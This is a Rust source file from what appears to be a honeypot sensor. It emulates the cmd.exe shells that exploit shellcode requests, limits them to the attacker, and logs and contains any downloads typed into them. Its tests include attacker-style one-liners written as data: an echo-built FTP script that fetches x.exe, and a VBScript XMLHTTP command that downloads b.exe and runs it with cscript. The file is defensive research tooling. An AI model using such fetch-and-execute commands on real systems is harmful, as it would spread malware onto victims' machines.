//! Serving the shells exploit shellcode offers: a bind shell listens on
//! the port the shellcode names, on the attacked address only, for the
//! attacking address only; a connect-back shell connects to the attacker
//! only. Either way the attacker gets [`crate::shell::CmdShell`], and the
//! downloads typed into it go through the sensor's contained download
//! path (`server::download_one`), logged with the shell's kind.

use crate::containment::{check_bind_port, connect_back_target, Refusal};
use crate::download::connect_from;
use crate::server::{download_one, now, Ctx, SensorEvent};
use crate::shell::{fetch_report, CmdShell, ShellKind, ShellOffer, ShellStep, BANNER, PROMPT};
use crate::shellcode::{find_shellcode, ShellAction};
use std::net::{IpAddr, SocketAddr};
use std::sync::atomic::Ordering;
use std::sync::Arc;
use std::time::{Duration, Instant};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use tokio::time::timeout;

/// Lines of a shell session kept in its `shell` event.
const TYPED_KEPT: usize = 64;
/// Bytes of each kept line.
const TYPED_LINE_KEPT: usize = 512;

/// The shells the shellcode in `payload` offers (bind and connect-back),
/// each once, in the order found.
pub fn offers_in(payload: &[u8]) -> Vec<ShellOffer> {
    let mut offers = Vec::new();
    for finding in find_shellcode(payload) {
        for action in finding.actions {
            let offer = match action {
                ShellAction::BindShell { port } => ShellOffer::Bind { port },
                ShellAction::ConnectBack { addr, port } => ShellOffer::ConnectBack { addr, port },
                // Downloads in decoded bodies reach find_instructions.
                ShellAction::Download(_) => continue,
            };
            if !offers.contains(&offer) {
                offers.push(offer);
            }
        }
    }
    offers
}

/// Serves one shell offer from `attacker`, made in an exploit against
/// `sensor`: refusals and failures are logged, a served shell is logged
/// as a `shell` event when it closes.
pub(crate) async fn serve_offer(
    ctx: &Arc<Ctx>,
    attacker: IpAddr,
    sensor: SocketAddr,
    vector: Option<String>,
    offer: ShellOffer,
) {
    let refuse = |reason: Refusal| {
        ctx.stats.refused.fetch_add(1, Ordering::Relaxed);
        ctx.events.send(SensorEvent::ShellRefused {
            ts: now(),
            attacker,
            offer,
            reason,
        });
    };
    let fail = |message: String| {
        ctx.events.send(SensorEvent::ShellFailed {
            ts: now(),
            attacker,
            offer,
            message,
        });
    };
    // Containment first: a third party is refused whatever the load.
    let target = match offer {
        ShellOffer::Bind { port } => check_bind_port(port, &ctx.own_ports()).map(|()| None),
        ShellOffer::ConnectBack { addr, port } => {
            connect_back_target(IpAddr::V4(addr), port, attacker).map(Some)
        }
    };
    let target = match target {
        Ok(t) => t,
        Err(r) => return refuse(r),
    };
    let Some(_claim) = OpenShell::claim(ctx, attacker, offer) else {
        return refuse(Refusal::Duplicate);
    };
    // A shell is a session of its source: it counts against both caps.
    let Some(_slot) = ctx.source_sessions.try_acquire(attacker) else {
        return refuse(Refusal::SessionQuota {
            addr: attacker,
            limit: ctx.source_sessions.limit(),
        });
    };
    let Ok(_permit) = ctx.sessions.try_acquire() else {
        ctx.stats.overloaded.fetch_add(1, Ordering::Relaxed);
        ctx.events.send(SensorEvent::Overloaded {
            ts: now(),
            src: SocketAddr::new(attacker, 0),
        });
        return;
    };
    let lim = &ctx.cfg.limits;
    let stream = match (offer, target) {
        (ShellOffer::Bind { port }, _) => {
            let wait = Duration::from_secs(lim.shell_wait_secs);
            match accept_attacker(sensor.ip(), port, attacker, wait, &refuse).await {
                Ok(s) => s,
                Err(e) => return fail(e),
            }
        }
        (ShellOffer::ConnectBack { .. }, Some(target)) => {
            let step = Duration::from_secs(lim.session_idle_secs.clamp(1, 10));
            match timeout(step, connect_from(Some(sensor.ip()), target)).await {
                Ok(Ok(s)) => s,
                Ok(Err(e)) => return fail(format!("connecting back to {target}: {e}")),
                Err(_) => return fail(format!("connecting back to {target}: timed out")),
            }
        }
        (ShellOffer::ConnectBack { .. }, None) => return,
    };
    run_shell(ctx, stream, attacker, offer.kind(), vector).await;
}

/// Listens on `sensor:port` (the attacked address only) until `attacker`
/// connects or `wait` passes; connections from anyone else are refused
/// (closed unread, and logged through `refuse`).
async fn accept_attacker(
    sensor: IpAddr,
    port: u16,
    attacker: IpAddr,
    wait: Duration,
    refuse: &impl Fn(Refusal),
) -> Result<TcpStream, String> {
    let listener = TcpListener::bind(SocketAddr::new(sensor, port))
        .await
        .map_err(|e| format!("cannot listen on {sensor}:{port}: {e}"))?;
    let deadline = tokio::time::Instant::now() + wait;
    loop {
        match tokio::time::timeout_at(deadline, listener.accept()).await {
            Ok(Ok((s, from))) if from.ip() == attacker => return Ok(s),
            Ok(Ok((s, from))) => {
                drop(s);
                refuse(Refusal::OtherSource {
                    addr: from.ip(),
                    attacker,
                });
            }
            Ok(Err(e)) => return Err(format!("accepting on {sensor}:{port}: {e}")),
            Err(_) => {
                return Err(format!(
                    "the attacker did not connect to {sensor}:{port} within {} s",
                    wait.as_secs()
                ))
            }
        }
    }
}

/// Marks an offer as being served while held.
struct OpenShell<'a> {
    ctx: &'a Ctx,
    key: (IpAddr, ShellOffer),
}

impl<'a> OpenShell<'a> {
    fn claim(ctx: &'a Ctx, attacker: IpAddr, offer: ShellOffer) -> Option<Self> {
        let key = (attacker, offer);
        let mut open = ctx.open_shells.lock().unwrap_or_else(|e| e.into_inner());
        // Lazily: an unused claim would take the offer out on drop.
        open.insert(key).then(|| OpenShell { ctx, key })
    }
}

impl Drop for OpenShell<'_> {
    fn drop(&mut self) {
        let mut open = self
            .ctx
            .open_shells
            .lock()
            .unwrap_or_else(|e| e.into_inner());
        open.remove(&self.key);
    }
}

/// What the attacker typed, so far.
struct Typed {
    bytes_in: u64,
    lines: usize,
    kept: Vec<String>,
    fetches: usize,
}

/// Runs the emulated `cmd.exe` on `s` until the attacker exits or closes,
/// idles, or runs past the session's time or byte bound; logs a `shell`
/// event.
async fn run_shell(
    ctx: &Arc<Ctx>,
    mut s: TcpStream,
    attacker: IpAddr,
    kind: ShellKind,
    vector: Option<String>,
) {
    let (start, ts) = (Instant::now(), now());
    let src = s.peer_addr().unwrap_or(SocketAddr::new(attacker, 0));
    let Ok(dst) = s.local_addr() else { return };
    ctx.stats.shells.fetch_add(1, Ordering::Relaxed);
    let lim = &ctx.cfg.limits;
    let deadline = start + Duration::from_secs(lim.shell_max_secs);
    let idle = Duration::from_secs(lim.session_idle_secs);
    let write_wait = Duration::from_secs(lim.session_idle_secs.clamp(1, 10));
    let mut shell = CmdShell::new();
    let mut typed = Typed {
        bytes_in: 0,
        lines: 0,
        kept: Vec::new(),
        fetches: 0,
    };
    let mut line: Vec<u8> = Vec::new();
    let mut too_long = false;
    let mut buf = [0u8; 2048];
    let greeting = format!("{BANNER}{PROMPT}");
    let mut end = "closed";
    if timeout(write_wait, s.write_all(greeting.as_bytes()))
        .await
        .is_ok_and(|r| r.is_ok())
    {
        end = 'session: loop {
            let left = deadline.saturating_duration_since(Instant::now());
            let n = match timeout(idle.min(left), s.read(&mut buf)).await {
                Ok(Ok(0)) | Ok(Err(_)) => break "closed",
                Ok(Ok(n)) => n,
                Err(_) if left <= idle => break "time",
                Err(_) => break "idle",
            };
            typed.bytes_in += n as u64;
            if typed.bytes_in > lim.shell_max_bytes as u64 {
                break "bytes";
            }
            for &b in &buf[..n] {
                if b != b'\n' {
                    // A line past cmd's limit is dropped, not buffered.
                    if b != b'\r' && !too_long {
                        line.push(b);
                        if line.len() > crate::shell::MAX_LINE {
                            too_long = true;
                            line = Vec::new();
                        }
                    }
                    continue;
                }
                let text = String::from_utf8_lossy(&line).into_owned();
                line.clear();
                let mut out = String::new();
                let mut exit = false;
                if std::mem::take(&mut too_long) {
                    out.push_str("The input line is too long.\r\n");
                } else {
                    typed.lines += 1;
                    if typed.kept.len() < TYPED_KEPT {
                        typed.kept.push(cut(&text, TYPED_LINE_KEPT));
                    }
                    for step in shell.run_line(&text) {
                        match step {
                            ShellStep::Output(t) => out.push_str(&t),
                            ShellStep::Fetch(instr) => {
                                typed.fetches += 1;
                                // Like cmd.exe, the shell waits for the
                                // transfer before its next prompt.
                                let got = download_one(
                                    ctx,
                                    attacker,
                                    dst,
                                    vector.clone(),
                                    instr.clone(),
                                    Some(kind),
                                )
                                .await;
                                out.push_str(&fetch_report(&instr, got));
                            }
                            ShellStep::Exit => exit = true,
                        }
                    }
                }
                if exit {
                    let _ = timeout(write_wait, s.write_all(out.as_bytes())).await;
                    break 'session "exit";
                }
                out.push_str("\r\n");
                out.push_str(PROMPT);
                match timeout(write_wait, s.write_all(out.as_bytes())).await {
                    Ok(Ok(())) => {}
                    _ => break 'session "closed",
                }
            }
        };
    }
    drop(s);
    ctx.events.send(SensorEvent::Shell {
        ts,
        kind,
        src,
        dst,
        vector,
        duration: start.elapsed().as_secs_f64(),
        bytes_in: typed.bytes_in,
        lines: typed.lines,
        typed: typed.kept,
        fetches: typed.fetches,
        end,
    });
}

/// `text` cut to at most `max` bytes at a character boundary.
fn cut(text: &str, max: usize) -> String {
    let mut end = text.len().min(max);
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    text[..end].to_string()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::SensorConfig;
    use crate::instructions::DownloadInstruction;
    use crate::server::{event_channel, SensorStats, SpecimenSink};
    use sha2::{Digest, Sha256};
    use std::net::Ipv4Addr;
    use tokio::io::AsyncBufReadExt;
    use tokio::sync::mpsc;

    /// Keeps nothing; says the SHA-256.
    struct HashSink;

    impl SpecimenSink for HashSink {
        fn store(
            &self,
            data: &[u8],
            _: &crate::server::DownloadMeta,
        ) -> Result<String, crate::server::StoreError> {
            Ok(hex::encode(Sha256::digest(data)))
        }
    }

    fn ctx() -> (Arc<Ctx>, mpsc::Receiver<SensorEvent>) {
        let cfg = SensorConfig::parse(
            "addresses = [\"127.0.0.1\"]\n[limits]\nsession_idle_secs = 5\nshell_wait_secs = 10\n",
        )
        .unwrap();
        let (tx, rx) = event_channel(1024);
        let ctx = Ctx::new(
            cfg,
            Arc::new(HashSink),
            tx,
            Arc::new(SensorStats::default()),
        );
        (Arc::new(ctx), rx)
    }

    fn free_port(ip: &str) -> u16 {
        std::net::TcpListener::bind((ip, 0))
            .unwrap()
            .local_addr()
            .unwrap()
            .port()
    }

    async fn connect_from_ip(ip: &str, to: SocketAddr) -> TcpStream {
        let deadline = Instant::now() + Duration::from_secs(5);
        loop {
            let sock = tokio::net::TcpSocket::new_v4().unwrap();
            sock.bind(SocketAddr::new(ip.parse().unwrap(), 0)).unwrap();
            match sock.connect(to).await {
                Ok(s) => return s,
                Err(e) if Instant::now() > deadline => panic!("connect {to}: {e}"),
                Err(_) => tokio::time::sleep(Duration::from_millis(20)).await,
            }
        }
    }

    /// Reads until the prompt; returns what came.
    async fn until_prompt(r: &mut tokio::io::BufReader<TcpStream>) -> String {
        let mut got = Vec::new();
        while !got.ends_with(PROMPT.as_bytes()) {
            let n = timeout(Duration::from_secs(20), r.read_until(b'>', &mut got))
                .await
                .expect("prompt in time")
                .unwrap();
            assert!(n > 0, "shell closed: {}", String::from_utf8_lossy(&got));
        }
        String::from_utf8(got).unwrap()
    }

    async fn next_event(rx: &mut mpsc::Receiver<SensorEvent>) -> SensorEvent {
        timeout(Duration::from_secs(20), rx.recv())
            .await
            .expect("an event in time")
            .expect("queue open")
    }

    /// A one-shot HTTP server on 127.0.0.1 serving `body`.
    async fn http_once(body: Vec<u8>) -> u16 {
        let l = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = l.local_addr().unwrap().port();
        tokio::spawn(async move {
            let (mut s, _) = l.accept().await.unwrap();
            let mut req = [0u8; 1024];
            let _ = s.read(&mut req).await;
            let head = format!("HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n", body.len());
            s.write_all(head.as_bytes()).await.unwrap();
            s.write_all(&body).await.unwrap();
        });
        port
    }

    #[tokio::test]
    async fn bind_shell_serves_the_attacker_only_and_fetches_what_it_types() {
        let (ctx, mut rx) = ctx();
        let attacker: IpAddr = "127.0.0.1".parse().unwrap();
        let sensor: SocketAddr = "127.0.0.1:445".parse().unwrap();
        let port = free_port("127.0.0.1");
        let offer = ShellOffer::Bind { port };
        let served = tokio::spawn({
            let ctx = ctx.clone();
            async move { serve_offer(&ctx, attacker, sensor, Some("MS03-026".into()), offer).await }
        });
        let shell_addr = SocketAddr::new(attacker, port);
        // A stranger is refused and logged; the port stays open for the attacker.
        let mut stranger = connect_from_ip("127.0.0.5", shell_addr).await;
        let mut b = [0u8; 16];
        let n = timeout(Duration::from_secs(5), stranger.read(&mut b))
            .await
            .unwrap();
        assert!(matches!(n, Ok(0) | Err(_)), "the stranger got {n:?}");
        match next_event(&mut rx).await {
            SensorEvent::ShellRefused {
                reason, offer: o, ..
            } => {
                assert_eq!(o, offer);
                assert_eq!(
                    reason,
                    Refusal::OtherSource {
                        addr: "127.0.0.5".parse().unwrap(),
                        attacker
                    }
                );
            }
            other => panic!("expected shell_refused, got {other:?}"),
        }
        // The same offer again (an exploit retried) opens no second shell.
        serve_offer(&ctx, attacker, sensor, None, offer).await;
        assert!(matches!(
            next_event(&mut rx).await,
            SensorEvent::ShellRefused {
                reason: Refusal::Duplicate,
                ..
            }
        ));
        let s = connect_from_ip("127.0.0.1", shell_addr).await;
        let mut r = tokio::io::BufReader::new(s);
        let banner = until_prompt(&mut r).await;
        assert_eq!(banner, format!("{BANNER}{PROMPT}"));
        // A script to a third party: refused, nothing sent.
        for line in [
            "echo open 10.9.9.9 21 > o\r\n",
            "echo user a b >> o\r\necho bin >> o\r\necho get x.exe >> o\r\necho bye >> o\r\n",
        ] {
            r.get_mut().write_all(line.as_bytes()).await.unwrap();
        }
        for _ in 0..5 {
            assert_eq!(until_prompt(&mut r).await, format!("\r\n{PROMPT}"));
        }
        r.get_mut().write_all(b"ftp -n -s:o\r\n").await.unwrap();
        let out = until_prompt(&mut r).await;
        assert!(out.contains("Connection refused"), "{out}");
        match next_event(&mut rx).await {
            SensorEvent::Refused {
                reason,
                instruction,
                ..
            } => {
                assert_eq!(
                    reason,
                    Refusal::ThirdParty {
                        named: "10.9.9.9".into(),
                        attacker
                    }
                );
                assert!(matches!(instruction, DownloadInstruction::Ftp { .. }));
            }
            other => panic!("expected refused, got {other:?}"),
        }
        // An HTTP fetcher script naming 0.0.0.0: the attacker.
        let body = b"MZ synthetic bot, never executed".repeat(100);
        let http = http_once(body.clone()).await;
        let vbs = format!(
            "echo Set x=CreateObject(\"Microsoft.XMLHTTP\"):x.Open \"GET\",\"http://0.0.0.0:{http}/b.exe\",0 >> d.vbs & cscript d.vbs\r\n"
        );
        r.get_mut().write_all(vbs.as_bytes()).await.unwrap();
        until_prompt(&mut r).await;
        match next_event(&mut rx).await {
            SensorEvent::Download {
                attacker: a,
                vector,
                copy_method,
                shell,
                sha256,
                error,
                size,
                ..
            } => {
                assert_eq!(a, attacker);
                assert_eq!(vector.as_deref(), Some("MS03-026"));
                assert_eq!(copy_method, "reverse_connect");
                assert_eq!(shell, Some(ShellKind::Bind));
                assert_eq!(error, None);
                assert_eq!(size, body.len());
                assert_eq!(sha256, Some(hex::encode(Sha256::digest(&body))));
            }
            other => panic!("expected a download, got {other:?}"),
        }
        r.get_mut().write_all(b"exit\r\n").await.unwrap();
        match next_event(&mut rx).await {
            SensorEvent::Shell {
                kind,
                lines,
                fetches,
                end,
                typed,
                ..
            } => {
                assert_eq!((kind, lines, fetches, end), (ShellKind::Bind, 8, 2, "exit"));
                assert_eq!(typed[0], "echo open 10.9.9.9 21 > o");
            }
            other => panic!("expected the shell event, got {other:?}"),
        }
        served.await.unwrap();
        assert_eq!(ctx.stats.shells.load(Ordering::Relaxed), 1);
        assert_eq!(ctx.stats.refused.load(Ordering::Relaxed), 3);
        assert_eq!(ctx.source_sessions.held(attacker), 0, "slot given back");
    }

    #[tokio::test]
    async fn connect_back_goes_to_the_attacker_only() {
        let (ctx, mut rx) = ctx();
        let attacker: IpAddr = "127.0.0.1".parse().unwrap();
        let sensor: SocketAddr = "127.0.0.1:135".parse().unwrap();
        // A third party listening: it must never be contacted.
        let third = TcpListener::bind("127.0.0.9:0").await.unwrap();
        let port = third.local_addr().unwrap().port();
        let offer = ShellOffer::ConnectBack {
            addr: Ipv4Addr::new(127, 0, 0, 9),
            port,
        };
        serve_offer(&ctx, attacker, sensor, None, offer).await;
        match next_event(&mut rx).await {
            SensorEvent::ShellRefused { reason, .. } => assert_eq!(
                reason,
                Refusal::ThirdParty {
                    named: "127.0.0.9".into(),
                    attacker
                }
            ),
            other => panic!("{other:?}"),
        }
        assert!(
            timeout(Duration::from_millis(300), third.accept())
                .await
                .is_err(),
            "the third party was contacted"
        );
        // 0.0.0.0 means the attacker: the shell comes to its listener.
        let l = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = l.local_addr().unwrap().port();
        let offer = ShellOffer::ConnectBack {
            addr: Ipv4Addr::UNSPECIFIED,
            port,
        };
        let served = tokio::spawn({
            let ctx = ctx.clone();
            async move { serve_offer(&ctx, attacker, sensor, None, offer).await }
        });
        let (s, from) = timeout(Duration::from_secs(5), l.accept())
            .await
            .unwrap()
            .unwrap();
        assert_eq!(from.ip(), sensor.ip(), "from the attacked address");
        let mut r = tokio::io::BufReader::new(s);
        assert!(until_prompt(&mut r)
            .await
            .starts_with("Microsoft Windows XP [Version 5.1.2600]"));
        r.get_mut().write_all(b"echo hello\r\n").await.unwrap();
        assert_eq!(until_prompt(&mut r).await, format!("hello\r\n\r\n{PROMPT}"));
        drop(r);
        served.await.unwrap();
        match next_event(&mut rx).await {
            SensorEvent::Shell {
                kind, end, lines, ..
            } => {
                assert_eq!((kind, end, lines), (ShellKind::ConnectBack, "closed", 1))
            }
            other => panic!("{other:?}"),
        }
    }

    #[tokio::test]
    async fn shell_sessions_are_bounded() {
        let cfg = SensorConfig::parse(
            "addresses = [\"127.0.0.1\"]\n[limits]\nshell_max_bytes = 1000\nsessions_per_source = 1\n",
        )
        .unwrap();
        let (tx, mut rx) = event_channel(1024);
        let ctx = Arc::new(Ctx::new(
            cfg,
            Arc::new(HashSink),
            tx,
            Arc::new(SensorStats::default()),
        ));
        let attacker: IpAddr = "127.0.0.1".parse().unwrap();
        let sensor: SocketAddr = "127.0.0.1:445".parse().unwrap();
        // Reserved ports are refused before anything opens.
        for port in [445u16, 80, 1023] {
            serve_offer(&ctx, attacker, sensor, None, ShellOffer::Bind { port }).await;
            assert!(matches!(
                next_event(&mut rx).await,
                SensorEvent::ShellRefused { reason: Refusal::ReservedPort { port: p }, .. } if p == port
            ));
        }
        let l = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = l.local_addr().unwrap().port();
        let offer = ShellOffer::ConnectBack {
            addr: Ipv4Addr::new(127, 0, 0, 1),
            port,
        };
        let served = tokio::spawn({
            let ctx = ctx.clone();
            async move { serve_offer(&ctx, attacker, sensor, None, offer).await }
        });
        let (mut s, _) = l.accept().await.unwrap();
        // The one session slot of this source is the shell's: a second
        // shell is refused.
        let other = ShellOffer::ConnectBack {
            addr: Ipv4Addr::new(127, 0, 0, 1),
            port: port.wrapping_add(1).max(1024),
        };
        serve_offer(&ctx, attacker, sensor, None, other).await;
        assert!(matches!(
            next_event(&mut rx).await,
            SensorEvent::ShellRefused {
                reason: Refusal::SessionQuota { limit: 1, .. },
                ..
            }
        ));
        // 1,000 bytes typed at most: a 20,000-byte line without an end
        // closes the shell, having buffered at most MAX_LINE of it.
        let _ = s.write_all(&[b'a'; 20_000]).await;
        served.await.unwrap();
        match next_event(&mut rx).await {
            SensorEvent::Shell {
                end,
                bytes_in,
                lines,
                ..
            } => {
                assert_eq!((end, lines), ("bytes", 0));
                assert!(bytes_in > 1000 && bytes_in <= 1000 + 2048, "{bytes_in}");
            }
            other => panic!("{other:?}"),
        }
    }
}
